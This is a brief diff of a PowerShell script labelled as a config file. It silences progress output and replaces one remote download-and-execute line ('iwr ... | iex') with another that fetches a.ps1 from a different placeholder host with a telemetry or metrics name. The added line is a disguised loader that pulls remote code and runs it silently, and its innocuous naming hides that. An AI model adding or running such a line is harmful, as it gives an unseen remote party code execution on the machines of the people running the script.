@@ -1,3 +1,3 @@
-# bootstrap 4579 v3
+# config 4224 v3
 $ProgressPreference = 'SilentlyContinue'
-iwr -UseBasicParsing http://api.telemetry-hub.example/a.ps1 | iex
+iwr -UseBasicParsing http://static.metrics-node.example/a.ps1 | iex
